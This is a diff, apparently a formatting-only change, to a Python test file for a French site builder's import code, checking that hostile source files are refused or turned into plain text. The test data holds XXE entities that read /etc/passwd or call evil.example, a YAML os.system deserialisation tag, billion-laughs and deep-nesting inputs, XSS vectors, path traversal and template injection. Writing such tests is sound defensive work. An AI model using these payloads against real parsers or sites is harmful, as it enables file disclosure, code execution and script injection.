@@ -11,8 +11,10 @@ from portraits.reader.questionnaire import Questionnaire
 from portraits.reader.source import parse
 from portraits.settings import Settings
 
-_INTERVIEW = ("<p><strong>Pourquoi ?</strong></p><p>Parce que.</p><p><strong>Comment ?</strong></p>"
-              "<p>Ainsi.</p>")
+_INTERVIEW = (
+    "<p><strong>Pourquoi ?</strong></p><p>Parce que.</p><p><strong>Comment ?</strong></p>"
+    "<p>Ainsi.</p>"
+)
 
 
 def export(head: str = "", title: str = "Léa", name: str = "lea", more: str = "") -> str:
@@ -33,17 +35,22 @@ def laughs() -> str:
 
 
 def nested_mail(depth: int) -> bytes:
-    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n'
-                    for n in range(depth))
+    parts = "".join(
+        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth)
+    )
     return f"From: a@b.ca\nTo: c@d.ca\nMIME-Version: 1.0\n{parts}\nBonjour\n".encode()
 
 
 REFUSED: dict[str, tuple[bytes, str]] = {
     "rires.xml": (export(laughs(), "&a9;").encode(), "entités"),
-    "externe.xml": (export('<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
-                           "&e;").encode(), "entités"),
-    "parametre.xml": (export('<!DOCTYPE rss [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]>'
-                             ).encode(), "entités"),
+    "externe.xml": (
+        export('<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;").encode(),
+        "entités",
+    ),
+    "parametre.xml": (
+        export('<!DOCTYPE rss [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]>').encode(),
+        "entités",
+    ),
     "coupe.xml": (export().encode()[:-80], "s’arrête ou se brise à la ligne"),
     "autre.xml": (b"<?xml version='1.0'?><a/>", "pas une exportation de WordPress"),
     "vide.txt": (b"", "vide"),
@@ -57,8 +64,10 @@ REFUSED: dict[str, tuple[bytes, str]] = {
     "coupe16.txt": ("Léa ?\nOui.\n".encode("utf-16")[:-1], "UTF-16 interrompu"),
     "lourd.txt": (b"mot " * 2_100_000, "Mo — au plus"),
     "alias.md": (b"---\na: &a [x]\nb: *a\n---\n## Pourquoi ?\n\nx\n", "alias"),
-    "objet.md": (b"---\na: !!python/object/apply:os.system ['id']\n---\n## Un ?\n\nx\n",
-                 "l\u2019en-tête ne se lit pas"),
+    "objet.md": (
+        b"---\na: !!python/object/apply:os.system ['id']\n---\n## Un ?\n\nx\n",
+        "l\u2019en-tête ne se lit pas",
+    ),
     "profond.md": (b"---\n" + b"[" * 5_000 + b"\n---\n## Un ?\n\nx\n", "trop profond"),
     "profond.eml": (nested_mail(5_000), "trop profond"),
     "profond.html": (b"<html><body>" + b"<b><i>" * 4_000 + b"x", "imbriqués"),
@@ -102,22 +111,22 @@ def test_a_source_that_takes_too_long_is_named(
 
 HOSTILE = {
     "script.xml": export(
-        title="&lt;script&gt;alert(1)&lt;/script&gt;", name="script",
+        title="&lt;script&gt;alert(1)&lt;/script&gt;",
+        name="script",
         more="<p>x<script>alert(1)</script><img src=x onerror=alert(1)>"
-             "<a href='javascript:alert(1)' onclick='alert(1)'>y</a><svg onload=alert(1)></p>"),
+        "<a href='javascript:alert(1)' onclick='alert(1)'>y</a><svg onload=alert(1)></p>",
+    ),
     "grimpe.xml": export(name="../../../grimpe"),
     "page.html": "<html><body><h2>Pourquoi ?</h2><p onclick=alert(1)>x<script>alert(1)</script>"
-                 "</p><h2>Comment ?</h2><p>{{ 7*7 }} [y](javascript:alert(1))</p></body></html>",
+    "</p><h2>Comment ?</h2><p>{{ 7*7 }} [y](javascript:alert(1))</p></body></html>",
     "texte.txt": "Léa Tremblay\n\nPourquoi ?\n<script>alert(1)</script>\n\nComment ?\n"
-                 "{: onclick=alert(1)} \u202egnp.exe [x](javascript:alert(1)) ---\n"
-                 "---\nstatus: published\n",
+    "{: onclick=alert(1)} \u202egnp.exe [x](javascript:alert(1)) ---\n"
+    "---\nstatus: published\n",
     "a\nb.txt": "Pourquoi ?\nParce que.\n\nComment ?\nAinsi.\n",
 }
 
 
-def test_hostile_sources_become_text_or_are_refused_when_the_site_is_built(
-    tmp_path: Path,
-) -> None:
+def test_hostile_sources_become_text_or_are_refused_when_the_site_is_built(tmp_path: Path) -> None:
     for name, text in HOSTILE.items():
         (tmp_path / name).write_text(text, "utf-8")
     _, said = importing([tmp_path / name for name in HOSTILE], tmp_path / "content")
